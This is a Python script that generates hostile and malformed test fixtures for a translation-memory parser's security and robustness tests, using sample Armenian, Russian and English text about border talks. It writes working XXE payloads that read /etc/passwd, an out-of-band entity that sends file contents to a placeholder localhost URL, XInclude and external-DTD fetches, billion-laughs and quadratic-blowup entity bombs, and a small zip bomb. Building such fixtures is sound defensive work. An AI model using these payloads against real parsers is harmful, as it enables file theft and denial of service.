"""Regenerate the hostile and broken files of ``tests/data/bad/`` (see its README.md).

    .venv/bin/python tests/data/make_bad.py

Deterministic: the same bytes every run (fixed seeds, fixed zip and gzip timestamps).
Files that must be big (the 100 MB line, large bombs) and files that must point at a
path or port known only at test time are made by ``tests/test_hostile.py`` instead.
"""

from __future__ import annotations

import gzip
import io
import random
import sqlite3
import zipfile
from pathlib import Path

BAD = Path(__file__).resolve().parent / "bad"

EN = "The ceasefire line was not changed."
HY = "Հրադադարի գիծը չի փոխվել։"
RU = "Линия прекращения огня не изменилась."
EN_ARTICLE = (
    "Border talks resume in Yerevan\n\n"
    "The commissions on delimitation met in Yerevan on Monday. They agreed to meet again next month.\n"
)
RU_ARTICLE = (
    "В Ереване возобновились переговоры о границе\n\n"
    "Комиссии по делимитации встретились в Ереване в понедельник. Они договорились встретиться снова "
    "в следующем месяце.\n"
)
HY_ARTICLE = (
    "Երևանում վերսկսվել են սահմանային բանակցությունները\n\n"
    "Սահմանազատման հանձնաժողովները երկուշաբթի հանդիպեցին Երևանում։ Նրանք պայմանավորվեցին "
    "հանդիպել հաջորդ ամիս։\n"
)


def tmx(seg_en: str = EN, seg_hy: str = HY, doctype: str = "", root: str = "tmx", tuv_lang: bool = True,
        decl: str = '<?xml version="1.0" encoding="UTF-8"?>\n') -> str:
    lang = ' xml:lang="{}"' if tuv_lang else ""
    return (
        f"{decl}{doctype}<{root} version=\"1.4\">\n"
        '  <header creationtool="hostile" creationtoolversion="1" segtype="sentence" o-tmf="x" '
        'adminlang="en" srclang="en" datatype="plaintext"/>\n'
        "  <body>\n"
        '    <tu tuid="1">\n'
        f"      <tuv{lang.format('en')}><seg>{seg_en}</seg></tuv>\n"
        f"      <tuv{lang.format('hy')}><seg>{seg_hy}</seg></tuv>\n"
        "    </tu>\n"
        "  </body>\n"
        f"</{root}>\n"
    )


def tbx(term_en: str = "ceasefire", doctype: str = "", root: str = "tbx") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f"{doctype}<{root} type=\"TBX-Basic\" style=\"dca\" xml:lang=\"en\" xmlns=\"urn:iso:std:iso:30042:ed-2\">\n"
        "  <tbxHeader><fileDesc><sourceDesc><p>hostile</p></sourceDesc></fileDesc></tbxHeader>\n"
        "  <text>\n    <body>\n"
        '      <conceptEntry id="ceasefire">\n'
        f'        <langSec xml:lang="en"><termSec><term>{term_en}</term></termSec></langSec>\n'
        '        <langSec xml:lang="hy"><termSec><term>հրադադար</term></termSec></langSec>\n'
        "      </conceptEntry>\n"
        "    </body>\n  </text>\n"
        f"</{root}>\n"
    )


def html(body: str, head: str = "<title>Border talks</title>", doctype: str = "<!DOCTYPE html>\n") -> str:
    return f'{doctype}<html lang="en">\n<head>\n<meta charset="utf-8">\n{head}\n</head>\n<body>\n{body}\n</body>\n</html>\n'


def laughs(prefix: str = "lol") -> str:
    ents = f' <!ENTITY {prefix}0 "{prefix}">\n' + "".join(
        f' <!ENTITY {prefix}{i} "{("&" + prefix + str(i - 1) + ";") * 10}">\n' for i in range(1, 10))
    return ents


def zip_bytes(members: list[tuple[str, bytes]], *, encrypted: bool = False, level: int = 9) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 2, 23, 12, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    data = bytearray(buf.getvalue())
    if encrypted:  # set the "encrypted" flag in the local and central headers: no password opens it
        for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = data.find(sig)
            while at >= 0:
                data[at + offset] |= 0x1
                at = data.find(sig, at + 4)
    return bytes(data)


def bad_crc(archive: bytes) -> bytes:
    """The archive with wrong CRC-32 values for its members (the data itself is intact)."""
    data = bytearray(archive)
    for sig, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = data.find(sig)
        while at >= 0:
            data[at + offset] ^= 0xFF
            at = data.find(sig, at + 4)
    return bytes(data)


def corrupt_member(archive: bytes) -> bytes:
    """The archive with a byte of its first member's compressed data changed (bad CRC)."""
    data = bytearray(archive)
    start = 30 + int.from_bytes(data[26:28], "little") + int.from_bytes(data[28:30], "little")
    data[start + 40] ^= 0x55
    return bytes(data)


def gzip_bytes(data: bytes) -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0, filename="") as gz:
        gz.write(data)
    return buf.getvalue()


def files() -> dict[str, bytes]:
    out: dict[str, bytes] = {}

    def put(name: str, data: str | bytes) -> None:
        out[name] = data.encode("utf-8") if isinstance(data, str) else data

    rnd = random.Random(20240223)
    junk = bytes(rnd.randrange(256) for _ in range(4096))
    passwd_ent = '<!DOCTYPE tmx [\n <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'

    # -- TMX: entities, DTDs, network ---------------------------------------------------
    put("xxe-local-file.tmx", tmx(seg_en=f"{EN} &xxe;", doctype=passwd_ent))
    put("xxe-in-attribute.tmx", tmx(doctype=passwd_ent).replace('tuid="1"', 'tuid="&xxe;"'))
    put("xxe-local-file-utf16.tmx", ("\ufeff" + tmx(seg_en=f"{EN} &xxe;", doctype=passwd_ent,
                                                    decl='<?xml version="1.0" encoding="UTF-16"?>\n'))
        .encode("utf-16-le"))
    put("external-dtd-local-file.tmx", tmx(doctype='<!DOCTYPE tmx SYSTEM "file:///etc/passwd">\n'))
    put("external-dtd-http.tmx", tmx(seg_en=f"{EN} &ext;",
                                     doctype='<!DOCTYPE tmx SYSTEM "http://127.0.0.1:9/tmx14.dtd">\n'))
    put("parameter-entity-http.tmx", tmx(doctype=(
        '<!DOCTYPE tmx [\n <!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">\n %remote;\n]>\n')))
    put("parameter-entity-oob.tmx", tmx(seg_en=f"{EN} &send;", doctype=(
        '<!DOCTYPE tmx [\n <!ENTITY % file SYSTEM "file:///etc/passwd">\n'
        ' <!ENTITY % wrap "<!ENTITY send SYSTEM \'http://127.0.0.1:9/?%file;\'>">\n %wrap;\n]>\n')))
    put("xinclude-local-file.tmx", tmx(seg_en=(
        f'{EN} <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>')))
    put("billion-laughs.tmx", tmx(seg_en=f"{EN} &lol9;", doctype=f"<!DOCTYPE tmx [\n{laughs()}]>\n"))
    blob = "A" * 20000
    put("quadratic-blowup.tmx", tmx(seg_en=EN + " " + "&a;" * 8000,
                                    doctype=f'<!DOCTYPE tmx [\n <!ENTITY a "{blob}">\n]>\n'))
    put("internal-entity.tmx", tmx(seg_en=f"{EN} &org;", doctype='<!DOCTYPE tmx [<!ENTITY org "CSTO">]>\n'))

    # -- TMX: broken structure and encodings ---------------------------------------------
    good = tmx()
    put("truncated.tmx", good[: good.index("<tuv xml:lang=\"hy\">") + 25])
    put("wrong-root.tmx", tmx(root="xliff"))
    put("not-xml.tmx", "tuid\ten\thy\n1\tThe ceasefire line was not changed.\tՀրադադարի գիծը չի փոխվել։\n")
    put("tu-without-lang.tmx", tmx(tuv_lang=False))
    put("utf16-no-bom.tmx", tmx(decl='<?xml version="1.0" encoding="UTF-16"?>\n').encode("utf-16-le"))
    put("control-chars.tmx", tmx(seg_en="The ceasefire\x01 line\x0b was not changed."))
    put("control-char-reference.tmx", tmx(seg_en="The ceasefire&#1; line was not changed."))
    put("nul-bytes.tmx", tmx().encode().replace(b"ceasefire", b"cease\x00fire"))
    put("invalid-utf8-middle.tmx", tmx().encode().replace("փոխվել".encode(), b"\xd6\xff\xfe\xc0\x80"))
    put("binary-junk.tmx", junk)
    put("empty.tmx", b"")
    put("whitespace-only.tmx", "\n   \n\t\n")
    put("deep-nesting.tmx", tmx(seg_en=EN + "<hi>" * 5000 + "deep" + "</hi>" * 5000))
    put("pdf-renamed.tmx", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n")

    # -- TMX: compressed containers ------------------------------------------------------
    put("corrupt-gzip.tmx.gz", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + junk[:1000])
    gz = gzip_bytes(tmx().encode())
    put("truncated-gzip.tmx.gz", gz[: len(gz) // 2])
    put("not-gzip.tmx.gz", "This file is named .tmx.gz but holds neither gzip data nor XML.\n")
    put("no-tmx-inside.zip", zip_bytes([("readme.txt", b"nothing here\n"), ("data.xml", tmx().encode())]))
    put("encrypted-member.zip", zip_bytes([("memory.tmx", tmx().encode())], encrypted=True))
    put("corrupt-member.zip", corrupt_member(zip_bytes([("memory.tmx", tmx().encode() + b"<!--" + b"x" * 400 + b"-->")])))
    put("bad-crc.zip", bad_crc(zip_bytes([("memory.tmx", tmx().encode())])))
    put("damaged.zip", zip_bytes([("memory.tmx", tmx().encode())])[:120])
    # a zip bomb in miniature: 40 MB of one text node in 40 KB (tests make bigger ones)
    big_seg = b"A" * (40 * 1024 * 1024)
    head, tail = tmx(seg_en="@@").encode().split(b"@@")
    put("zip-bomb.zip", zip_bytes([("bomb.tmx", head + big_seg + tail)]))

    # -- TBX -------------------------------------------------------------------------------
    put("xxe-local-file.tbx", tbx(term_en="&xxe;",
                                  doctype='<!DOCTYPE tbx [\n <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'))
    put("parameter-entity-http.tbx", tbx(doctype=(
        '<!DOCTYPE tbx [\n <!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">\n %remote;\n]>\n')))
    put("external-dtd-http.tbx", tbx(term_en="&ext;",
                                     doctype='<!DOCTYPE tbx SYSTEM "http://127.0.0.1:9/TBXcoreStructV03.dtd">\n'))
    put("billion-laughs.tbx", tbx(term_en="&lol9;", doctype=f"<!DOCTYPE tbx [\n{laughs()}]>\n"))
    put("quadratic-blowup.tbx", tbx(term_en="&a;" * 8000,
                                    doctype=f'<!DOCTYPE tbx [\n <!ENTITY a "{blob}">\n]>\n'))
    g = tbx()
    put("truncated.tbx", g[: g.index("<langSec xml:lang=\"hy\">") + 10])
    put("wrong-root.tbx", tbx(root="martif-not"))
    put("binary-junk.tbx", junk[:2048])
    put("empty.tbx", b"")

    # -- glossary tables -------------------------------------------------------------------
    put("glossary-wrong-header.tsv", "id\tlanguage\tterm\nceasefire\ten\tceasefire\nceasefire\thy\tհրադադար\n")
    put("glossary-bad-columns.tsv", (
        "concept\tlang\ttext\tkind\tstatus\tnote\tflags\n"
        "ceasefire\tdef\tA halt to fighting.\t\t\t\t\n"
        "ceasefire\ten\tceasefire\tfull\tpreferred\t\t\n"
        "ceasefire\thy\tհրադադար\tfull\tpreferred\t\t\textra\tcolumns\there\n"))
    put("glossary-bad-values.tsv", (
        "concept\tlang\ttext\tkind\tstatus\tnote\tflags\n"
        "Cease Fire!\ten\tceasefire\tterm\tpreferred\t\t\n"))
    put("glossary-no-en-column.csv", "Concept;ru-RU;hy-AM\nceasefire;прекращение огня;հրադադար\n")
    put("glossary-ragged.csv", "Concept,Definition,en,ru,hy\n"
        "ceasefire,A halt to fighting.,ceasefire,прекращение огня,հրադադար,extra,cells\n")
    put("glossary-nul-bytes.tsv", b"concept\tlang\ttext\n\x00\x00\x00ceasefire\ten\tceasefire\n")
    put("glossary-invalid-utf8.tsv", "concept\tlang\ttext\tkind\tstatus\tnote\tflags\n"
        "ceasefire\ten\tceasefire\tfull\tpreferred\t\t\n".encode() + b"ceasefire\thy\t\xd5\xff\xfe\tfull\tpreferred\t\t\n")

    # -- articles: text, Markdown, HTML ----------------------------------------------------
    put("utf16-no-bom.txt", HY_ARTICLE.encode("utf-16-le"))
    put("nul-bytes.txt", EN_ARTICLE.encode().replace(b"Monday", b"Mon\x00\x00day"))
    put("invalid-utf8-middle.txt", EN_ARTICLE.encode() + b"Then \xff\xfe\xc3( broke.\n" + EN_ARTICLE.encode())
    put("cp1251-without-encoding.txt", RU_ARTICLE.encode("cp1251"))
    put("control-chars.txt", EN_ARTICLE.replace("Monday", "Mon\x01day\x1b[31m"))
    put("zip-renamed.txt", zip_bytes([("article.txt", EN_ARTICLE.encode())]))
    put("pdf-renamed.txt", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n")
    put("sqlite-renamed.txt", b"SQLite format 3\x00" + bytes(84))
    put("binary-junk.txt", junk)
    put("empty.txt", b"")
    put("whitespace-only.txt", "\n \n\t\n\r\n")
    put("russian-text.hy.txt", RU_ARTICLE)
    put("xxe-local-file.html", html(
        "<article><p>The commissions met on Monday. &xxe;</p>"
        '<p><img src="file:///etc/passwd"><iframe src="file:///etc/passwd"></iframe>'
        '<object data="file:///etc/passwd"></object>They agreed to meet again.</p></article>',
        doctype='<!DOCTYPE html [\n <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'))
    page = html("<article>\n<h1>Border talks resume in Yerevan</h1>\n"
                "<p>The commissions on delimitation met in Yerevan on Monday.</p>\n"
                "<p>They agreed to meet again next month, officials said after the session ended.</p>\n</article>")
    put("truncated.html", page[: page.index("next month") + 4])
    put("only-scripts.html", html(
        "<script>var a = 'The commissions met in Yerevan on Monday.';</script>\n"
        "<noscript>Please enable JavaScript to read this article.</noscript>\n"
        "<style>p { color: red }</style>\n<nav><a href='/'>Home</a> <a href='/news'>News</a></nav>\n"
        "<script src='/app.js'></script>"))
    put("empty.html", b"")
    put("pdf-renamed.html", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n")

    # -- story folders ---------------------------------------------------------------------
    put("story-invalid-toml/story.toml", '[story]\ntitle = "Border talks\n[en\nurl = https://example.org\n')
    put("story-invalid-toml/en.txt", EN_ARTICLE)
    put("story-invalid-toml/hy.txt", HY_ARTICLE)
    put("story-json-wrong-types/story.json",
        '{"story": {"title": ["Border", "talks"], "slug": 42},\n'
        ' "en": {"title": {"text": "x"}, "url": 7, "outlet": false, "date": [2024, 2, 23]},\n'
        ' "hy": "not a table"}\n')
    put("story-json-wrong-types/en.txt", EN_ARTICLE)
    put("story-json-wrong-types/hy.txt", HY_ARTICLE)
    put("story-json-not-object/story.json", '["en", "hy"]\n')
    put("story-json-not-object/en.txt", EN_ARTICLE)
    put("story-mislabelled/en.txt", EN_ARTICLE)
    put("story-mislabelled/hy.txt", RU_ARTICLE)  # Russian text named hy.txt
    put("story-one-bad-file/en.txt", EN_ARTICLE)
    put("story-one-bad-file/ru.txt", RU_ARTICLE.encode("cp1251"))

    # -- databases -------------------------------------------------------------------------
    put("not-sqlite.dbfile", "This is a text file, not a database.\n")
    put("random-bytes.dbfile", junk)
    put("empty.dbfile", b"")
    return out


def sqlite_not_tmkit(path: Path) -> None:
    with sqlite3.connect(path) as conn:
        conn.execute("PRAGMA journal_mode = DELETE")
        conn.execute("CREATE TABLE accounts (id INTEGER PRIMARY KEY, owner TEXT)")
        conn.execute("INSERT INTO accounts (owner) VALUES ('someone else')")
    conn.close()


def main() -> None:
    for name, data in files().items():
        path = BAD / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    target = BAD / "sqlite-not-tmkit.dbfile"
    target.unlink(missing_ok=True)
    sqlite_not_tmkit(target)
    for path in sorted(BAD.rglob("*")):
        if path.is_file() and path.name != "README.md":
            size = path.stat().st_size
            assert size <= 50 * 1024, f"{path} is {size} bytes: generate it at test time instead"


if __name__ == "__main__":
    main()
